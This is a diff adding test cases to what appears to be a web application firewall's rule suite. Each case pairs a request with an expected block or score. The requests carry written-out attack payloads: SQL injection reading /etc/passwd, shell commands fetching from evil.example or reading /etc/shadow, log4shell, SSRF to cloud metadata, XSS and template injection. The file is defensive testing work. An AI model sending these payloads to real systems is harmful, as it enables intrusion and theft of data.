@@ -942,6 +942,220 @@ CASES = [
          "/?x=class.module.classLoader.resources", {}, None,
          ("block", [944300])),
     ]),
+
+    # --- round-5 fidelity expansion: CRS-complexity additions ---
+    (942160, [
+        ("blind sqli sleep() blocked", "GET", "/?id=1%20AND%20sleep(5)--", {}, None,
+         ("block", [942160])),
+        ("benchmark timing blocked", "GET", "/?id=1%27%20or%20benchmark(10000000,md5(1))--", {}, None,
+         ("block", [942160])),
+        ("sleeping beauty passes", "GET", "/?q=sleeping+beauty+story", {}, None, ("pass",)),
+    ]),
+    (942151, [
+        ("coalesce() probing blocked", "GET", "/?v=coalesce(user,1)", {}, None,
+         ("block", [942151])),
+        ("from_base64 decode blocked", "GET", "/?v=from_base64(%27dGVzdA==%27)", {}, None,
+         ("block", [942151])),
+    ]),
+    (942170, [
+        ("order by probe blocked", "GET", "/?sort=1%20order%20by%2010--", {}, None,
+         ("block", [942170])),
+    ]),
+    (942220, [
+        ("inline comment before select blocked", "GET",
+         "/?q=/**/select/**/password", {}, None, ("block", [942220])),
+    ]),
+    (942230, [
+        ("case-when conditional blocked", "GET",
+         "/?id=1%20case%20when%201=1%20then%202%20else%203%20end", {}, None,
+         ("block", [942230])),
+    ]),
+    (942260, [
+        ("char() auth bypass blocked", "GET", "/?u=char(97,100,109,105,110)", {},
+         None, ("block", [942260])),
+        ("hex run blocked", "GET", "/?u=0x61646d696e21", {}, None,
+         ("block", [942260])),
+    ]),
+    (942270, [
+        ("select-limit injection blocked", "GET",
+         "/?q=select%20password%20from%20users%20limit%201", {}, None,
+         ("block", [942270])),
+    ]),
+    (942280, [
+        ("mssql declare blocked", "GET", "/?id=1;declare%20@x%20int", {}, None,
+         ("block", [942280])),
+        ("@@version gathering blocked", "GET", "/?id=1%20union%20select%20@@version", {}, None,
+         ("block", [942280])),
+    ]),
+    (942291, [
+        ("mongodb where-operator json blocked", "GET",
+         "/?f=%7B%22$where%22:%22this.a==1%22%7D", {}, None, ("block", [942291])),
+    ]),
+    (942340, [
+        ("grant all privileges blocked", "GET",
+         "/?q=grant%20all%20on%20*.*%20to%20x", {}, None, ("block", [942340])),
+    ]),
+    (942361, [
+        ("into outfile write blocked", "GET",
+         "/?q=select%20x%20into%20outfile%20%27/tmp/a%27", {}, None,
+         ("block", [942361])),
+        ("load_file read blocked", "GET", "/?q=load_file(%27/etc/passwd%27)", {},
+         None, ("block", [942361])),
+    ]),
+    (942370, [
+        ("sqli probing in referer blocked", "GET", "/",
+         {"Referer": "http://x/?q=1' or '1"}, None, ("block", [942370])),
+    ]),
+    (932101, [
+        ("windows command with switch blocked", "GET", "/?c=taskkill%20/im%20x.exe", {},
+         None, ("block", [932101])),
+    ]),
+    (932210, [
+        ("IFS variable expansion evasion blocked", "GET",
+         "/?c=c${IFS%25%25r}at%20x=$(id)", {}, None, ("score", [932210])),
+        ("backslash interleave blocked", "GET", "/?c=%5Cw%5Ch%5Co%5Cami", {}, None,
+         ("score", [932240])),
+    ]),
+    (932250, [
+        ("cat /etc/shadow blocked", "GET", "/?f=cat%20/etc/shadow", {}, None,
+         ("block", [932250])),
+    ]),
+    (932260, [
+        ("wget fetch of remote payload blocked", "GET",
+         "/?u=wget%20http://evil.example/x.sh", {}, None, ("block", [932260])),
+        ("curl -O download blocked", "GET", "/?u=curl%20-O%20http://e/x", {}, None,
+         ("block", [932260])),
+    ]),
+    (932310, [
+        ("imap uid fetch injection blocked", "GET",
+         "/?m=x%0d%0aa%20login%20admin%20pw", {}, None, ("block", [932310])),
+    ]),
+    (932175, [
+        ("shellshock shape in custom header blocked", "GET", "/",
+         {"X-Custom": "() { x; }; /bin/cat /etc/passwd"}, None,
+         ("block", [932175])),
+    ]),
+    (941330, [
+        ("css expression vector blocked", "GET",
+         "/?s=width:expression(alert(1))%20style=x:expression(alert(1))", {}, None,
+         ("score", [941330])),
+        ("style url javascript blocked", "GET",
+         "/?s=background:url(javascript:alert(1))", {}, None, ("block", [941330])),
+    ]),
+    (941340, [
+        ("unicode escape run blocked", "GET",
+         "/?x=%5Cu0061%5Cu006c%5Cu0065%5Cu0072%5Cu0074", {}, None,
+         ("block", [941340])),
+    ]),
+    (941360, [
+        ("jsfuck bracket soup blocked", "GET",
+         "/?x=![]+[]+!![]+[]+![]+[]+!![]+[]", {}, None, ("block", [941360])),
+    ]),
+    (941380, [
+        ("angular template injection blocked", "GET",
+         "/?name=%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D", {}, None,
+         ("block", [941380])),
+    ]),
+    (941391, [
+        ("eval of fromCharCode blocked", "GET",
+         "/?x=eval(String.fromCharCode(97,108))", {}, None, ("block", [941391])),
+    ]),
+    (933151, [
+        ("call_user_func blocked", "GET", "/?f=call_user_func(%27system%27,%27id%27)",
+         {}, None, ("block", [933151])),
+    ]),
+    (933201, [
+        ("php filter wrapper blocked", "GET",
+         "/?f=php://filter/convert.base64-encode/resource=index.php", {}, None,
+         ("block", [933201])),
+        ("expect wrapper blocked", "GET", "/?f=expect://id", {}, None,
+         ("block", [933201])),
+    ]),
+    (933131, [
+        ("superglobal reference blocked", "GET", "/?v=$_SERVER[PHP_SELF]", {}, None,
+         ("block", [933131])),
+    ]),
+    (933172, [
+        ("serialized php object blocked", "GET",
+         "/?d=O:8:%22stdClass%22:1:%7Bs:1:%22a%22%3B%7D", {}, None,
+         ("block", [933172])),
+    ]),
+    (933211, [
+        ("comment-gap system call blocked", "GET",
+         "/?c=system/*x*/(%27id%27)", {}, None, ("block", [933211])),
+    ]),
+    (934140, [
+        ("aws metadata ssrf blocked", "GET",
+         "/?u=http://169.254.169.254/latest/meta-data/", {}, None,
+         ("block", [934140])),
+        ("decimal loopback ssrf blocked", "GET", "/?u=http://2130706433/", {}, None,
+         ("block", [934140])),
+    ]),
+    (934131, [
+        ("prototype pollution blocked", "GET", "/?x[__proto__][polluted]=1", {},
+         None, ("block", [934131])),
+    ]),
+    (934102, [
+        ("node require child_process blocked", "GET",
+         "/?x=require(%27child_process%27).exec(%27id%27)", {}, None,
+         ("block", [934102])),
+    ]),
+    (934152, [
+        ("log4shell jndi lookup blocked", "GET",
+         "/?x=$%7Bjndi:ldap://evil.example/a%7D", {}, None, ("block", [934152])),
+    ]),
+    (934161, [
+        ("jinja2 ssti blocked", "GET",
+         "/?name=%7B%7Bconfig.items()%7D%7D", {}, None, ("block", [934161])),
+        ("mro subclasses probe blocked", "GET",
+         "/?name=%7B%7B%27%27.__class__.__mro__%7D%7D", {}, None,
+         ("block", [934161])),
+    ]),
+    (921170, [
+        ("response splitting header injection blocked", "GET",
+         "/?r=x%250d%250aSet-Cookie:%20sid=evil", {}, None, ("block", [921170])),
+    ]),
+    (921180, [
+        ("smuggling te chunked-chunked blocked", "GET", "/",
+         {"Transfer-Encoding": "chunked, chunked"}, None, ("block", [921180])),
+    ]),
+    (921220, [
+        ("parameter pollution array-name scored", "GET", "/?select=1&q[]=a&q[]=b",
+         {}, None, ("score", [921220])),
+    ]),
+    (920510, [
+        ("many byte ranges scored", "GET", "/",
+         {"Range": "bytes=0-1,2-3,4-5,6-7,8-9,10-11"}, None, ("score", [920510])),
+    ]),
+    (920520, [
+        ("repeated gzip codings scored", "GET", "/",
+         {"Accept-Encoding": "gzip, gzip, gzip, deflate"}, None,
+         ("score", [920520])),
+    ]),
+    (920530, [
+        ("control char in header blocked", "GET", "/",
+         {"X-Note": "abc\x01def"}, None, ("block", [920530])),
+    ]),
+    (920540, [
+        ("overlong utf-8 dot blocked", "GET", "/?f=..%c0%af..%c0%afetc", {}, None,
+         ("block", [920540])),
+    ]),
+    (920550, [
+        ("git config path scored", "GET", "/.git/config", {}, None,
+         ("score", [920550])),
+        ("env file scored", "GET", "/app/.env", {}, None, ("score", [920550])),
+    ]),
+
+    (943140, [
+        ("session id param with offsite referer blocked", "GET",
+         "/login?jsessionid=ABCDEF0123456789",
+         {"Referer": "https://evil.example/phish"}, None, ("block", [943140])),
+    ]),
+    (944310, [
+        ("java runtime reflection blocked", "GET",
+         "/?x=java.lang.Runtime.getRuntime().exec(%27id%27)", {}, None,
+         ("block", [944310])),
+    ]),
 ]
 
 # Response-phase cases (loader extension: input.response injects the
@@ -1067,6 +1281,31 @@ RESPONSE_CASES = [
          {"status": 200,
           "data": "org.springframework.beans.FatalBeanException: x"},
          ("block", [952110, 959100])),
+    ]),
+    (951120, [
+        ("oracle ORA error leak blocked", "GET", "/acct", {}, None,
+         {"status": 500, "data": "ORA-01756: quoted string not properly terminated"},
+         ("block", [951120, 959100])),
+    ]),
+    (951240, [
+        ("postgresql error leak blocked", "GET", "/q", {}, None,
+         {"status": 500, "data": "ERROR: unterminated quoted string at or near \"'\""},
+         ("block", [951240, 959100])),
+    ]),
+    (951250, [
+        ("mssql error leak blocked", "GET", "/q", {}, None,
+         {"status": 500, "data": "Microsoft OLE DB Provider for SQL Server error: Unclosed quotation mark before"},
+         ("block", [951250, 959100])),
+    ]),
+    (953130, [
+        ("php fatal error leak blocked", "GET", "/x.php", {}, None,
+         {"status": 200, "data": "Fatal error: Call to undefined function foo() in /var/www/x.php on line 3"},
+         ("block", [953130, 959100])),
+    ]),
+    (953140, [
+        ("directory listing leak blocked", "GET", "/files/", {}, None,
+         {"status": 200, "data": "<html><title>Index of /files</title><h1>Index of /files</h1>"},
+         ("block", [953140, 959100])),
     ]),
 ]
 
